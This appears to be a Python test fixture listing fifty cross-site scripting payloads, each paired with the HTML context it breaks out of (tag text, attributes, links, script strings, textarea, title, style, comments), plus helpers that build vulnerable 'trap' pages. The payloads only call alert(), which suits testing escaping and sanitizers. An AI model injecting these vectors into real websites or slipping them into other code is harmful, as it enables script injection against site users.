"""Fifty texts that run a script where a page does not escape them, each with a place where it would.

They are our own, made for the places where text ends up in a page: between tags, in attributes of every quoting, in
addresses, in scripts and styles, and in elements that end by their own rules.
"""

from __future__ import annotations

TEXT = "<p>{}</p>"
DOUBLE = '<input value="{}">'
SINGLE = "<input value='{}'>"
BARE = "<input value={}>"
LINK = '<a href="{}">go</a>'
SCRIPT_DOUBLE = '<script>var said = "{}";</script>'
SCRIPT_SINGLE = "<script>var said = '{}';</script>"
SCRIPT_BACK = "<script>var said = `{}`;</script>"
DATA = '<script type="application/json">{{"said": "{}"}}</script>'
TEXTAREA = "<textarea>{}</textarea>"
TITLE = "<title>{}</title>"
STYLE = "<style>.said {{ content: '{}' }}</style>"
COMMENT = "<!-- {} -->"
OPTION = "<select><option>{}</option></select>"

PLACES: dict[str, tuple[str, ...]] = {
    TEXT: (
        "<script>alert({n})</script>",
        "<SCRIPT>alert({n})</SCRIPT >",
        "<script/x>alert({n})</script>",
        "<img src=x onerror=alert({n})>",
        "<IMG SRC=x oNeRrOr=alert({n})>",
        "<img/src='x'/onerror=alert({n})>",
        '<img src=x onerror="alert({n})"',
        "<img src=`x` onerror=alert({n})>",
        "<image src=x onerror=alert({n})>",
        "<svg onload=alert({n})>",
        "<svg/onload=alert({n})//",
        "<svg><script>alert({n})</script></svg>",
        "<svg><a><image href=x onerror=alert({n})></a></svg>",
        "<math><mtext><img src=x onerror=alert({n})></mtext></math>",
        "<body onload=alert({n})>",
        "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
        "<iframe src='javascript:parent.alert({n})'></iframe>",
        "<iframe onload=alert({n})></iframe>",
        "<input autofocus onfocus=alert({n})>",
        "<textarea autofocus onfocus=alert({n})></textarea>",
        "<details open ontoggle=alert({n})>",
        "<video><source onerror=alert({n})></video>",
        "<video src=x onerror=alert({n})></video>",
        "<audio src=x onerror=alert({n})></audio>",
        "<object data=x onerror=alert({n})></object>",
        "<style>@keyframes a {{}}</style><p style=animation:a onanimationstart=alert({n})>x",
        "<script src=x onerror=alert({n})></script>",
        "<style onload=alert({n})></style>",
        "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
        "</p><script>alert({n})</script><p>",
    ),
    DOUBLE: (
        '"><script>alert({n})</script>',
        '" autofocus onfocus="alert({n})',
        '"><img src=x onerror=alert({n}) x="',
    ),
    SINGLE: (
        "'><script>alert({n})</script>",
        "' autofocus onfocus='alert({n})",
        "'><svg onload=alert({n})>",
    ),
    BARE: (
        "x autofocus onfocus=alert({n})",
        "x><script>alert({n})</script>",
    ),
    LINK: (
        "javascript:alert({n})",
        "JaVaScRiPt:alert({n})",
        "&#106;avascript:alert({n})",
    ),
    SCRIPT_DOUBLE: ('"; alert({n}); "',),
    SCRIPT_SINGLE: ("'; alert({n}); '",),
    SCRIPT_BACK: ("${{alert({n})}}",),
    DATA: ("</script><script>alert({n})</script>",),
    TEXTAREA: ("</textarea><script>alert({n})</script>",),
    TITLE: ("</title><script>alert({n})</script>",),
    STYLE: ("</style><script>alert({n})</script>",),
    COMMENT: ("--><script>alert({n})</script>",),
    OPTION: ("</option></select><img src=x onerror=alert({n})>",),
}
"""Place -> texts that run there, both as format strings; a text calls ``alert`` with its own number."""
PAYLOADS = [(place, text) for place, found in PLACES.items() for text in found]


def texts() -> list[str]:
    """The fifty texts; each calls ``alert`` with its place in the list."""
    return [text.format(n=number) for number, (_, text) in enumerate(PAYLOADS)]


def traps() -> list[str]:
    """For each, a page that is open to it."""
    return [place.format(text) for (place, _), text in zip(PAYLOADS, texts(), strict=True)]
